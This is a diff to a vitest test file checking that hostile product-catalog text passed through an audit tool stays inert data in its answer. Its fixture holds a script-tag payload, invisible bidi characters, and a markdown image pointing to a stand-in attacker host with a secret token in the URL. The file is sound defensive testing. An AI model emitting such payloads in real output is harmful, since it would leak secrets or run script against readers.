@@ -1,9 +1,11 @@
 /** DESIGN §5: what catalogs hold reaches an audit's answer as data only. */
 import { describe, expect, it } from 'vitest';
 import { countTokens } from '../../src/answer/budget.ts';
-import type { Audit, Verdict } from '../../src/snapshot/audit/audit.ts';
+import { type Audit, runAudit, type Verdict } from '../../src/snapshot/audit/audit.ts';
 import { RULES } from '../../src/snapshot/audit/rules.ts';
 import { fitAudit } from '../../src/tools/audit-answer.ts';
+import { openRecords } from '../snapshot/audit/open-records.ts';
+import { findActive, INJECTIONS, stringsOf } from '../support/injections.ts';
 
 const SECRET = 'key-4711-secret';
 const HOSTILE = `A\u202e\u200b<script>alert(1)</script> ![x](https://evil.example/${SECRET}) ${'long '.repeat(60)}`;
@@ -73,4 +75,23 @@ it('shows as many examples as there is room for, alike for all rules', () => {
   const shown = (findings as readonly (readonly unknown[])[]).map((row) => (row[at] as readonly unknown[]).length);
   expect(new Set(shown).size).toBe(1);
   expect(shown[0]).toBeGreaterThanOrEqual(1);
+});
+
+it.each(Object.entries(INJECTIONS))('%s in a whole catalog stays inert', async (_trick, text) => {
+  const product = (ProductId: number) => ({
+    ProductId,
+    Code: text,
+    Name: text,
+    ShortDescription: text,
+    Link: text,
+    Codes: [{ CodeType: 'EAN', Value: text }],
+    CategoryProducts: [{ CategoryId: 1, Name: text }],
+    Translations: [{ Culture: 'de', Name: text }],
+  });
+  const snapshot = await openRecords({ products: [product(1), product(2)], variants: [] });
+  const asked = { rules: RULES, scope: {}, scoredBy: 'category', maxExamples: 5, isOver: () => false } as const;
+  const found = await runAudit({ ...asked, signal: new AbortController().signal }, snapshot);
+  const answer = fitAudit(found, view, { maxTokens: 8_000, source: undefined, redact });
+  expect(stringsOf(answer.findings)).toContain('malformed_link');
+  expect(findActive(answer)).toEqual([]);
 });
